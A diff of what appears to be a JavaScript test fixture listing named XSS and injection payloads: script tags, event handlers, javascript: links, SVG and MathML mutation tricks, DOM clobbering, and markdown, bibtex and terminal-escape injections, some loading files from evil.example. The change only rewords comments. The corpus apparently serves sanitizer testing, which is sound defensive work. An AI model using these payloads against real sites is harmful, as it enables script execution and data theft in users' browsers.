@@ -1,9 +1,9 @@
-// What a stranger may send in to run script in a reader's browser, or to make it ask another host
-// for something: [name, text]. The names make addresses, so they have small letters, digits and
-// spaces. Whatever runs says so by `alert` or `pwned`, whatever is fetched comes from evil.example.
+// Texts that try to run code in a reader's browser, or to load files from another host: [name, text]. The
+// names become addresses, so they have only small letters, digits and spaces. Code calls `alert` or sets
+// `pwned`, files would come from evil.example.
 
 const written = [
-  // --- Elements and handlers, as they are
+  // --- Elements and event handlers
   ["script", "<script>alert(1)</script>"],
   ["script from elsewhere", "<script src=https://evil.example/x.js></script>"],
   ["script in script", "<scr<script>ipt>alert(3)</scr</script>ipt>"],
@@ -28,7 +28,7 @@ const written = [
   ["refresh to a script", '<meta http-equiv=refresh content="0;url=javascript:alert(27)">'],
   ["style sheet from elsewhere", "<link rel=stylesheet href=https://evil.example/s.css>"],
 
-  // --- HTML that is broken or not closed
+  // --- Broken and unclosed HTML
   ["unclosed image", "<img src=x onerror=alert(31)//"],
   ["unclosed quotation", "<img src=\"https://evil.example/?"],
   ["unclosed script", "<script>alert(32)//"],
@@ -41,7 +41,7 @@ const written = [
   ["character data that ends", "]]><script>alert(42)</script>"],
   ["comment that ends", "--><script>alert(43)</script>"],
 
-  // --- Out of what stands around it
+  // --- Ends of the markup around the text
   ["out of double quotation marks", "\"><img src=x onerror=alert(44)>"],
   ["out of single quotation marks", "'><img src=x onerror=alert(45)>"],
   ["attribute after double marks", "\" onmouseover=\"alert(46)\" autofocus onfocus=\"alert(47)"],
@@ -100,14 +100,14 @@ const written = [
   ["address with a handler", "https://evil.example/\"onmouseover=alert(101)//"],
   ["mailbox with a handler", "mailto:a@evil.example?\"onmouseover=\"alert(103)"],
 
-  // --- Pictures and formulas as elements
+  // --- SVG and MathML elements
   ["picture", "<svg onload=alert(104)>"],
   ["picture with script", "<svg><script href=data:,alert(105) /><script>alert(106)</script></svg>"],
   ["picture that animates", "<svg><a><animate attributeName=href values=javascript:alert(107) /><text y=9>x</text></a></svg>"],
   ["picture that uses another", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(108)'/></svg>#x\"/></svg>"],
   ["formula with a link", "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(110)\">x</maction></math>"],
 
-  // --- Markup that changes when it is read a second time
+  // --- Markup that changes when it is parsed a second time
   ["mutation in noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(111)>\">"],
   ["mutation in a formula", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(112)&gt;\">"],
   ["mutation in a picture", "<svg></p><style><a id=\"</style><img src=x onerror=alert(113)>\">"],
@@ -153,7 +153,7 @@ const written = [
   ["formula in an environment", "$\\begin{array}{c\" onclick=\"alert(153)}x\\end{array}$"],
   ["formula of markup", "<mtext><img src=x onerror=alert(156)></mtext>"],
 
-  // --- Names that programs have uses for
+  // --- Names with a meaning in JavaScript
   ["prototype", "__proto__"],
   ["constructor", "constructor"],
   ["own property", "hasOwnProperty"],
@@ -162,7 +162,7 @@ const written = [
   ["document in a form", "<form name=document><input name=body><img name=getElementById id=_main>"],
   ["current script", "<img name=currentScript src=https://evil.example/assets/><a id=location href=//evil.example>"],
 
-  // --- Other programs that take the text on
+  // --- Other programs that read the text
   ["bibtex", "}, url = {javascript:alert(157)}, note = {\\href{javascript:alert(158)}{x}}}\n@misc{x, title={<script>alert(159)</script>"],
   ["citation in markdown", "](javascript:alert(160)) ![x](https://evil.example/c.png) `*_~|"],
   ["pattern of a search", "(?:<img src=x onerror=alert(162)>)+[.*$&$`$'\\"],
@@ -181,7 +181,7 @@ const written = [
   ["escape of a terminal", "\u001b]8;;https://evil.example/\u0007<script>alert(174)</script>"],
   ["no character", "\ufffe\ufdd0<script>alert(175)</script>"],
 
-  // --- Long ones
+  // --- Long texts
   ["very long", `"'><img src=x onerror=alert(176)>`.repeat(60)],
   ["deep in markdown", `${"[".repeat(60)}x${"](javascript:alert(178))".repeat(60)}`],
   ["deep in lists", `${"> - ".repeat(40)}<script>alert(179)</script>`],
